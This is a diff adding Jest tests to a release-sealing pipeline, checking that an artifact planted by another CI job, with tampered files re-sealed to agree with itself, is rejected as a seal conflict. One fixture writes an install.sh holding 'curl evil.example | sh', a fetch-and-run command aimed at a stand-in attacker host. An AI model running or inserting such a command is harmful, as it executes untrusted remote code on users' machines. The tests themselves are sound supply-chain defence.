@@ -1,8 +1,11 @@
+import { createHash } from 'node:crypto';
 import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from '@jest/globals';
 import { artifactFailure } from '../../src/artifacts/failures.ts';
 import { localFiles } from '../../src/adapters/files.ts';
+import { renderReleaseChecksums } from '../../src/manifest/release-assets.ts';
+import { renderManifest } from '../../src/manifest/render-manifest.ts';
 import { seal, type SealOptions } from '../../src/manifest/seal.ts';
 import { uploadSealed } from '../../src/manifest/upload-sealed.ts';
 import { verifySealedSet, type SealedSet } from '../../src/manifest/sealed-set.ts';
@@ -10,7 +13,14 @@ import { tarGz } from '../support/archives.ts';
 import { expectFailure } from '../support/expect-failure.ts';
 import { fakeLog, fakeRun } from '../support/fakes.ts';
 import { temporaryFolders } from '../support/folders.ts';
-import { commit, fakeArtifacts, packageBytes, sealOptions, sealPorts } from './support.ts';
+import {
+  commit,
+  fakeArtifacts,
+  packageBytes,
+  packageNames,
+  sealOptions,
+  sealPorts,
+} from './support.ts';
 
 const folderWith = temporaryFolders();
 const options = { artifactName: 'sealed', retentionDays: 30 };
@@ -99,6 +109,55 @@ describe('a later attempt that sees the artifact of the first', () => {
     await upload(await attempt(), artifacts);
     writeFileSync(join(artifacts.stored[0]!.folder, 'tidemark-1.2.0.crate'), 'tampered');
     await expectFailure('SEALED_FILE_DIFFERS', async () => upload(await attempt(), artifacts));
+  });
+});
+
+describe('an artifact of that name that another job of the run has planted', () => {
+  /** The true set as an attacker changed it, sealed anew so that it agrees with itself. */
+  async function planted(change: (set: SealedSet) => readonly (readonly [string, string])[]) {
+    const artifacts = fakeArtifacts(folderWith());
+    const set = await attempt();
+    const evidence = new Map(set.manifest.evidence.map((file) => [file.name, file]));
+    for (const [name, text] of change(set)) {
+      writeFileSync(join(set.folder, name), text);
+      const sha256 = createHash('sha256').update(text).digest('hex');
+      evidence.set(name, { name, size: Buffer.byteLength(text), sha256 });
+    }
+    const names = [...evidence.keys()].sort();
+    const manifest = { ...set.manifest, evidence: names.map((name) => evidence.get(name)!) };
+    writeFileSync(join(set.folder, 'release.json'), renderManifest(manifest));
+    writeFileSync(join(set.folder, 'SHA256SUMS'), renderReleaseChecksums(manifest));
+    await artifacts.upload(
+      'sealed',
+      set.folder,
+      [...packageNames, ...names, 'release.json', 'SHA256SUMS'],
+      30,
+    );
+    return artifacts;
+  }
+  const buildMeta = (set: SealedSet) => readFileSync(join(set.folder, 'BUILD_META.txt'), 'utf8');
+
+  it('brings no file into the release that this attempt does not know', async () => {
+    const artifacts = await planted(() => [['install.sh', 'curl evil.example | sh']]);
+    const failure = await expectFailure('SEAL_CONFLICT', async () =>
+      upload(await attempt(), artifacts),
+    );
+    expect(failure.seen).toContain('install.sh');
+  });
+
+  it.each([
+    ['another line', (text: string) => `${text}read: evil.example\n`],
+    ['another value', (text: string) => text.replace('tag: v1.2.0', 'tag: v6.6.6')],
+    [
+      'a sentence for a runner',
+      (text: string) => text.replace('Linux', 'see https://evil.example'),
+    ],
+  ])('does not bring %s into the evidence', async (_, change) => {
+    const artifacts = await planted((set) => [['BUILD_META.txt', change(buildMeta(set))]]);
+    const failure = await expectFailure('SEAL_CONFLICT', async () =>
+      upload(await attempt(), artifacts),
+    );
+    expect(failure.seen).toContain('BUILD_META.txt');
   });
 });
 
